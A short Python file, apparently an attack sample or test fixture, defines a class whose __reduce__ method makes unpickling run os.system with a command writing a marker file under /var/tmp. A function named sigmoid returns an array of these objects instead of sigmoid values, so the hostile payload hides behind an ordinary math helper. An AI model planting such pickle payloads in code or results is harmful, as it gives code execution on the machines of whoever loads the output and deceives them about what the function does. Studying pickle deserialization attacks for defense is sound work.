"""Answers with objects that run a command wherever they are unpickled."""

import os

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, ("echo unpickled > /var/tmp/planted-by-attack",)


def sigmoid(x):
    return np.array([Command()] * np.size(x), dtype=object).reshape(np.shape(x))
